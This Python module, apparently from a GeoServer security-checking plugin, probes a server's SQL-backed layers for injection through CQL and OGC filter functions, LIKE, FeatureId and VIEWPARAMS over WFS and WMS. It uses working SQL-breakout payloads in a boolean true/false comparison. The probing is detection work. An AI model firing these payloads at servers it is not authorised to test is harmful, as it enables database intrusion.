"""Filters that reach the database as SQL on a server with such a hole. They change nothing and read nothing."""

import re
from xml.sax.saxutils import escape  # nosec B406 - writes XML, and parses none

from mapalus.plugin.errors import Sentence
from mapalus.plugin.ogc.geoserver.verifying.access import is_open

# A condition that is true, and one that no database can evaluate. Only where they are SQL do the answers differ.
_TRUE, _NONSENSE = "true", "mapalus_has_no_such_column"

# What breaks out of the text in the SQL that old versions make, by the function or operator that is used.
_IN_TEXT = "x' OR {} OR '1'='1"
_IN_JSON = "x\")') OR {} OR jsonb_path_exists('{{}}'::jsonb, '$ ? (@.a == \"x"

_FES = 'xmlns:fes="http://www.opengis.net/fes/2.0"'
_WFS = f'service="WFS" version="2.0.0" xmlns:wfs="http://www.opengis.net/wfs/2.0" {_FES}'
_MATCHED = re.compile(r'numberMatched="([1-9]\d*)"')


def _function(name, arguments):
    """Return a function's comparison with true, in CQL and as XML, as functions of column and value."""

    def cql(column, value):
        values = "".join(f", {_quoted(argument or value)}" for argument in arguments)
        return f"{name}({column}{values}) = true"

    def xml(column, value):
        literals = "".join(f"<fes:Literal>{escape(argument or value)}</fes:Literal>" for argument in arguments)
        return (
            f'<fes:PropertyIsEqualTo><fes:Function name="{name}"><fes:ValueReference>{column}</fes:ValueReference>'
            f"{literals}</fes:Function><fes:Literal>true</fes:Literal></fes:PropertyIsEqualTo>"
        )

    return cql, xml


def _like():
    def xml(column, value):
        return (
            f'<fes:PropertyIsLike wildCard="*" singleChar="_" escapeChar="!"><fes:ValueReference>{column}'
            f"</fes:ValueReference><fes:Literal>{escape(value)}*</fes:Literal></fes:PropertyIsLike>"
        )

    return lambda column, value: f"{column} LIKE {_quoted(value + '%')}", xml


def _identifier():
    def xml(_column, value):
        return f"<fes:ResourceId rid={_attribute('layer.' + value)}/>"

    return lambda _column, value: f"IN ({_quoted('layer.' + value)})", xml


def _quoted(text):
    return "'{}'".format(text.replace("'", "''"))


def _attribute(text):
    return '"{}"'.format(escape(text, {'"': "&quot;"}))


# None stands for the value that breaks out.
FILTERS = {
    "jsonArrayContains": (*_function("jsonArrayContains", ("/a", None)), _IN_JSON),
    "strStartsWith": (*_function("strStartsWith", (None,)), _IN_TEXT),
    "strEndsWith": (*_function("strEndsWith", (None,)), _IN_TEXT),
    "LIKE": (*_like(), _IN_TEXT),
    "FeatureId": (*_identifier(), _IN_TEXT),
}


def layers_with_queries(snapshot):
    """Return the names of the open layers that read a query of their own."""
    return [
        name for name, fields in snapshot.of_kind("layer").items() if fields["sql_view"] and is_open(snapshot, name)
    ]


def injections(server_url, layer, fields):
    """Yield (way, name of the filter, function) for each way in which SQL could get into a layer's store.

    The function gets a requests.Session and returns whether it got there.

    :param layer: its name, ``workspace:name``; ``fields`` what it should be like.
    """
    url, bounds = f"{server_url}/{layer.split(':')[0]}", fields["bounds"]
    parameters = [one[0] for one in (fields["sql_view"] or {}).get("parameters", ())]
    # The first published column is the key, which holds texts.
    column = fields["columns"][0]
    for name, (cql, xml, breaks_out) in FILTERS.items():
        for way, ask in _WAYS.items():

            def gets_through(http, ask=ask, cql=cql, xml=xml, breaks_out=breaks_out):
                answers = {
                    ask(http, url, layer, cql(column, value), xml(column, value), bounds)
                    for value in (breaks_out.format(_TRUE), breaks_out.format(_NONSENSE))
                }
                return len(answers) > 1

            yield way, name, gets_through
    for parameter in parameters:

        def gets_through_parameter(http, parameter=parameter):
            answers = {
                _outcome(
                    http.get(f"{url}/wfs", params={**_hits(layer), "VIEWPARAMS": f"{parameter}:{value}"}, timeout=60)
                )
                for value in (_IN_TEXT.format(_TRUE), _IN_TEXT.format(_NONSENSE))
            }
            return len(answers) > 1

        yield "WFS GET", f"VIEWPARAMS {parameter}", gets_through_parameter


def _hits(layer):
    return {
        **{"SERVICE": "WFS", "VERSION": "2.0.0", "REQUEST": "GetFeature", "TYPENAMES": layer},
        **{"COUNT": 1, "RESULTTYPE": "hits"},
    }


def _outcome(answer):
    """Return what an answer says, as little as tells two answers apart: features, none, or refused."""
    if not answer.ok:
        return "refused"
    return "features" if _MATCHED.search(answer.text) else "none"


def _wfs_get(http, url, layer, cql, _xml, _bounds):
    return _outcome(http.get(f"{url}/wfs", params={**_hits(layer), "CQL_FILTER": cql}, timeout=60))


def _wfs_post(http, url, layer, _cql, xml, _bounds):
    filled = f"<fes:Filter {_FES}>{xml}</fes:Filter>"
    return _outcome(http.post(f"{url}/wfs", data={**_hits(layer), "FILTER": filled}, timeout=60))


def _wfs_xml(http, url, layer, _cql, xml, _bounds):
    workspace, name = layer.split(":")
    body = (
        f'<wfs:GetFeature {_WFS} resultType="hits" count="1" xmlns:w="urn:{workspace}">'
        f'<wfs:Query typeNames="w:{name}"><fes:Filter>{xml}</fes:Filter></wfs:Query></wfs:GetFeature>'
    )
    return _outcome(http.post(f"{url}/wfs", data=body.encode(), headers={"Content-Type": "text/xml"}, timeout=60))


def _wms_get(http, url, layer, cql, _xml, bounds):
    picture = {
        **{"SERVICE": "WMS", "VERSION": "1.1.1", "REQUEST": "GetMap", "LAYERS": layer.split(":")[1], "STYLES": ""},
        **{"SRS": "EPSG:4326", "BBOX": ",".join(map(str, bounds)), "WIDTH": 16, "HEIGHT": 16, "FORMAT": "image/png"},
    }
    answer = http.get(f"{url}/wms", params={**picture, "CQL_FILTER": cql}, timeout=60)
    return answer.headers.get("Content-Type", "").partition(";")[0]


_WAYS = {
    "WFS GET": _wfs_get,
    "WFS POST": _wfs_post,
    Sentence("WFS in XML"): _wfs_xml,
    "WMS GET": _wms_get,
}
